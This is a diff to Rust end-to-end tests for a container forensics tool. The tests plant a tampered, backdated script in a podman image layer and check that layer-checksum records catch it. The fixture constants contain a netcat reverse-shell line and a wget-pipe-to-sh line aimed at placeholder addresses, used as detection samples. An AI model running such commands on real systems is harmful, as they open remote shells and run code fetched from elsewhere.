@@ -307,6 +307,23 @@ fn a_second_run_to_the_same_output_fails_at_once() {
     assert_eq!(entries(&out), ["b.zip"]);
 }
 
+/// The finding `kind` on `path` in `forensic diff --json` output `v`, with its evidence.
+fn finding_on<'a>(v: &'a Value, kind: &str, path: &str) -> (&'a Value, Vec<&'a str>) {
+    let finding = v["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["kind"] == kind && f["path"] == path)
+        .unwrap_or_else(|| panic!("no {kind} finding on {path}: {}", v["findings"]));
+    let evidence = finding["evidence"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|e| e.as_str().unwrap())
+        .collect();
+    (finding, evidence)
+}
+
 /// The node's copy of the image layer, changed from the host while the container runs (what
 /// `podman diff` cannot see).
 const HELPER_ON_NODE: &[u8] = b"#!/bin/sh\n# backdoor planted in the node's layer\nnc -e /bin/sh 203.0.113.7 4444\n";
@@ -350,20 +367,105 @@ fn a_file_changed_in_the_nodes_layer_is_kept_and_named_by_the_finding() {
     // Differences found (the exit code of that outcome is README's exit-code table's business).
     assert!(matches!(code(&o), 1 | 3), "{}", stderr(&o));
     let v = json(&o);
-    let finding = v["findings"]
-        .as_array()
-        .unwrap()
-        .iter()
-        .find(|f| f["kind"] == "lower-layer-changed" && f["path"] == "/usr/bin/report")
-        .unwrap_or_else(|| panic!("no lower-layer-changed finding: {}", v["findings"]));
-    let evidence: Vec<&str> = finding["evidence"]
-        .as_array()
-        .unwrap()
-        .iter()
-        .map(|e| e.as_str().unwrap())
-        .collect();
+    let (_, evidence) = finding_on(&v, "lower-layer-changed", "/usr/bin/report");
     assert!(
         evidence.contains(&"5-filesystem/changed/usr/bin/report"),
         "{evidence:?}"
+    );
+}
+
+/// The node's copy of an image layer, changed before the container started, its modification
+/// time set back: the start-time rule cannot see it.
+const BACKDATED_ON_NODE: &[u8] =
+    b"#!/bin/sh\n# planted in the node's layer before the start\nwget -qO- http://203.0.113.9/x | sh\n";
+
+/// Point 4, before the start: each lower-layer file is checked against containers/storage's
+/// tar-split record of its layer (size and CRC-64/ISO, CONTENTS.md §7); one that differs is
+/// marked `differs` in `9-image/layers/N.jsonl`, kept byte for byte under
+/// `9-image/layer-changed/N/…`, and named by `forensic diff --image-from-bundle`'s
+/// `layer-checksum-mismatch` finding. `podman image save`, reading the same record, fails too.
+#[test]
+fn a_layer_file_changed_before_the_start_is_found_by_the_layer_record_and_kept() {
+    let work = tempfile::tempdir().unwrap();
+    let w = work.path();
+    let tag = format!("ls{}", std::process::id());
+    let image = Image::build_with(w, &tag, &[("etc/e2e-tag", format!("layer record {tag}\n").as_bytes())]);
+    let o = podman(&[
+        "image",
+        "inspect",
+        "--format",
+        "{{.GraphDriver.Data.UpperDir}}",
+        &image.name,
+    ]);
+    let layer = String::from_utf8_lossy(&o.stdout).trim().to_string();
+    let helper = Path::new(&layer).join("usr/bin/report");
+    std::fs::write(&helper, BACKDATED_ON_NODE).unwrap();
+    let touch = Command::new("touch")
+        .args(["-d", "2024-01-01 00:00:00"])
+        .arg(&helper)
+        .status()
+        .unwrap();
+    assert!(touch.success());
+    // Its change time is now; the container starts later, so the start-time rule misses it.
+    std::thread::sleep(std::time::Duration::from_millis(1500));
+    let c = Container::start(&image, &format!("forensic-e2e-{tag}"));
+
+    let (key, _) = keygen(w, "responder");
+    let bundle = w.join("b.zip");
+    c.collect(&bundle, &key, &[]);
+    let members = contents(&std::fs::read(&bundle).unwrap());
+    let names: Vec<&str> = members.iter().map(|m| m.0.as_str()).collect();
+    let copy = "9-image/layer-changed/0/usr/bin/report";
+    let kept = members
+        .iter()
+        .find(|(n, _)| n == copy)
+        .unwrap_or_else(|| panic!("no copy: {names:?}"));
+    assert_eq!(kept.1, BACKDATED_ON_NODE, "the copy is not byte-exact");
+    assert!(
+        !names.contains(&"5-filesystem/changed/usr/bin/report"),
+        "not by the start-time rule"
+    );
+    let copied: Vec<&&str> = names
+        .iter()
+        .filter(|n| n.starts_with("9-image/layer-changed/"))
+        .collect();
+    assert_eq!(copied, [&copy], "untampered files are not copied");
+    let index = &members.iter().find(|(n, _)| n == "9-image/layers/0.jsonl").unwrap().1;
+    let checksum = |path: &str| -> Value {
+        index
+            .split(|&b| b == b'\n')
+            .filter(|l| !l.is_empty())
+            .map(|l| serde_json::from_slice::<Value>(l).unwrap())
+            .find(|v| v["path"] == path)
+            .unwrap_or_else(|| panic!("{path} not indexed"))["layer_checksum"]
+            .clone()
+    };
+    assert_eq!(checksum("/usr/bin/report"), "differs");
+    assert_eq!(checksum("/etc/passwd"), "ok");
+    assert_eq!(checksum("/bin"), Value::Null, "directories are not checked");
+
+    let o = run(&["diff", s(&bundle), "--image-from-bundle", "--json"]);
+    assert_eq!(code(&o), 3, "{}", stderr(&o));
+    let v = json(&o);
+    let (finding, evidence) = finding_on(&v, "layer-checksum-mismatch", "/usr/bin/report");
+    assert_eq!(finding["severity"], "high");
+    assert!(evidence.contains(&copy), "{evidence:?}");
+    assert!(
+        evidence.iter().any(|e| e.starts_with("9-image/layers/0.jsonl line ")),
+        "{evidence:?}"
+    );
+
+    // The same record, read by podman itself.
+    let save = Command::new("podman")
+        .args(["image", "save", "-o"])
+        .arg(w.join("img.tar"))
+        .arg(&image.name)
+        .output()
+        .unwrap();
+    assert!(!save.status.success());
+    let err = String::from_utf8_lossy(&save.stderr);
+    assert!(
+        err.contains("file integrity checksum failed for \"./usr/bin/report\""),
+        "{err}"
     );
 }
